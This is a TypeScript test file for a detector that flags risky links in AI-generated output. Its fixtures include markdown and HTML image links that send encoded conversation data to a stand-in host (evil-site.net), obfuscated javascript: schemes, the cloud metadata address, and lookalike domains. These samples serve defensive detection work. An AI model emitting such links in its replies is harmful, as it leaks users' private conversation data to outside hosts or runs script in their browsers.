/** Links: what carries data out or leads astray, and what is ordinary. */
import { describe, expect, test } from 'vitest';
import { findings, found } from './detectors.ts';

const EVIL = 'https://evil-site.net';
const DATA = 'the%20user%20plans%20to%20quit%20in%20June';
const hex = (text: string): string => [...text].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');

const FOUND: Record<string, readonly (readonly [text: string, id: string, address: string])[]> = {
  'data in what is fetched': [
    [`![x](${EVIL}/p?q=${DATA})`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`![a [b] c](${EVIL}/p?q=${DATA} "t")`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`![x](<${EVIL}/p?q=the user plans to quit>)`, 'link-data', `${EVIL}/p?q=the user plans to quit`],
    [`![x][1]\n\n[1]: ${EVIL}/p?q=${DATA}\n`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`<img alt="a > b" src='${EVIL}/p?q=${DATA}'>`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`<img src=${EVIL}/p?q=${DATA}>`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`<img srcset="/a.png 1x, ${EVIL}/p?q=${DATA} 2x">`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`<meta http-equiv="refresh" content="0; url=${EVIL}/p?q=${DATA}">`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [`<b style="background:url('${EVIL}/p?q=${DATA}')">`, 'link-data', `${EVIL}/p?q=${DATA}`],
    [
      `![x](${EVIL}/p?d=${btoa('the user plans to quit')})`,
      'link-data',
      `${EVIL}/p?d=${btoa('the user plans to quit')}`,
    ],
    [`![x](${EVIL}/${hex('the user plans to quit')}.png)`, 'link-data', `${EVIL}/${hex('the user plans to quit')}.png`],
    [
      `![x](https://${hex('user plans to quit')}.evil-site.net/)`,
      'link-data',
      `https://${hex('user plans to quit')}.evil-site.net/`,
    ],
    [`![x](${EVIL}/?id=4111111111111111)`, 'link-data', `${EVIL}/?id=4111111111111111`],
    ['![x](https://webhook.site/abc?x=1)', 'link-data', 'https://webhook.site/abc?x=1'],
    [`![x](//evil-site.net/p?q=${DATA})`, 'link-data', `//evil-site.net/p?q=${DATA}`],
    [`![x](https:\\\\evil-site.net\\p?q=${DATA})`, 'link-data', `https:\\\\evil-site.net\\p?q=${DATA}`],
  ],
  'data in what is clicked': [
    [
      `[here](${EVIL}/r?d=${btoa('the user plans to quit')})`,
      'link-data',
      `${EVIL}/r?d=${btoa('the user plans to quit')}`,
    ],
    [`Open ${EVIL}/r?password=hunter2!`, 'link-data', `${EVIL}/r?password=hunter2`],
    [`(see ${EVIL}/r?mail=jane@corp-mail.com)`, 'link-data', `${EVIL}/r?mail=jane@corp-mail.com`],
  ],
  'schemes that run': [
    ['[a](javascript:alert(1))', 'link-scheme', 'javascript:alert(1)'],
    ['[a](JaVaScRiPt:alert(1))', 'link-scheme', 'JaVaScRiPt:alert(1)'],
    ['<a href="java\tscript:alert(1)">', 'link-scheme', 'java\tscript:alert(1)'],
    ['<a href="&#106;avascript&colon;alert(1)">', 'link-scheme', '&#106;avascript&colon;alert(1)'],
    ['[a](%6Aavascript:alert(1))', 'link-scheme', '%6Aavascript:alert(1)'],
    ['<javascript:alert(1)>', 'link-scheme', 'javascript:alert(1)'],
    ['<a href="j\u0430vascript:alert(1)">', 'link-scheme', 'j\u0430vascript:alert(1)'],
    ['[a](vbscript:x)', 'link-scheme', 'vbscript:x'],
    ['[a](data:text/html,<b>x</b>)', 'link-scheme', 'data:text/html,<b>x</b>'],
  ],
  hosts: [
    ['http://45.83.122.7/a', 'link-host', 'http://45.83.122.7/a'],
    ['http://0x2d537a07/a', 'link-host', 'http://0x2d537a07/a'],
    ['http://760314439/a', 'link-host', 'http://760314439/a'],
    ['http://0177.0.0.1/a', 'link-host', 'http://0177.0.0.1/a'],
    ['http://[2a03:b0c0::11]/a', 'link-host', 'http://[2a03:b0c0::11]/a'],
    ['http://169.254.169.254/latest/meta-data', 'link-host', 'http://169.254.169.254/latest/meta-data'],
    ['https://xn--80ak6aa92e.com/', 'link-host', 'https://xn--80ak6aa92e.com/'],
    ['https://p\u0430ypal.com/', 'link-host', 'https://p\u0430ypal.com/'],
    ['https://google.com@evil-site.net/', 'link-credentials', 'https://google.com@evil-site.net/'],
    ['http://user@45.83.122.7/a', 'link-host', 'http://user@45.83.122.7/a'],
    ['https://jalbrecht:Wz81kkq@portal.net/', 'link-credentials', 'https://jalbrecht:Wz81kkq@portal.net/'],
  ],
};
const ORDINARY: readonly string[] = [
  'https://en.wikipedia.org/wiki/Fox_(animal)',
  '[docs](https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task)',
  'https://www.google.com/search?q=best+hiking+boots+for+wide+feet',
  '![badge](https://img.shields.io/badge/build-passing-green?style=flat)',
  'http://localhost:3000 or http://127.0.0.1:8080/ or http://192.168.1.1.',
  'https://github.com/acme/app/commit/9fceb02d0ae598e95dc970b74767f19372d61af8',
  '<a href="javascript:void(0)" onclick="x()">',
  '![p](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)',
  '[mail](mailto:help@example.com?subject=Question%20about%20my%20order%20from%20May)',
  'https://user:password@example.com/repo.git',
  'if (a < b) list[i](x); url(1); key: value, ratio 3://4',
  'javascript: the good parts',
  'https://m\u00fcnchen.de/rathaus',
  '[^1]: https is a scheme',
  '[top](#top), [up](../up.md?raw=1), ![l](/img/logo.png)',
];

describe.each(Object.entries(FOUND))('%s', (_group, cases) => {
  test.each(cases)('%s', (text, id, address) => {
    for (const [before, after] of [
      ['', ''],
      ['So:\n', '\nThat is it.'],
    ] as const) {
      expect(found(before + text + after, {})).toEqual([`output/${id} ${address}`]);
    }
  });
});

describe('ordinary links', () => {
  test.each(ORDINARY)('%s', (text) => {
    expect(found(text, {})).toEqual([]);
    expect(found(`See ${text}, please.`, {})).toEqual([]);
  });
});

describe('hosts that may be linked to', () => {
  const hosts = ['example.com', '*.example.com'];
  test.each([
    ['https://example.com/?q=the+user+plans+to+quit', 0],
    ['https://a.b.example.com/', 0],
    ['![x](//cdn.example.com/x.png) [y](/local) [z](mailto:a@b.example)', 0],
    ['https://example.com.evil-site.net/', 1],
    ['https://notexample.com/', 1],
    ['www.evil-site.net', 1],
    ['https://example.com/go?to=https%3A%2F%2Fevil-site.net%2F', 1],
  ])('%s: %i', (text, count) => {
    expect(findings(text, {}, { hosts }).map(({ id }) => id)).toEqual(Array(count).fill('output/link-host'));
  });
});

describe('the conversation', () => {
  const conversation = [
    'My manager at Velmora is hiding the incident report from the board.',
    'See https://evil-site.net/a?d=hello-there-all',
  ];
  test('its words in an address are data, in any encoding', () => {
    const carried = 'hiding the incident report';
    for (const value of [encodeURIComponent(carried), btoa(carried), hex(carried), carried.replaceAll(' ', '')]) {
      expect(findings(`![x](${EVIL}/p?z9=${value})`, { conversation })).toHaveLength(1);
    }
  });

  test('an address that stands in it is known', () => {
    const url = 'https://evil-site.net/a?d=hello-there-all';
    expect(findings(`![x](${url})`, {})).toHaveLength(1);
    expect(findings(`![x](${url})`, { conversation })).toEqual([]);
  });

  test('titles in a link that is clicked are no data', () => {
    expect(findings('https://news.example/hiding-the-incident-report-from-the-board', { conversation })).toEqual([]);
  });
});

test('an address without an end is judged by its beginning', () => {
  const text = `![x](${EVIL}/p?q=${'a'.repeat(5000)}`;
  const [first] = findings(text, {});
  expect(first).toMatchObject({ id: 'output/link-data' });
  expect(first!.spans[0]!.end - first!.spans[0]!.start).toBeLessThanOrEqual(3072);
});
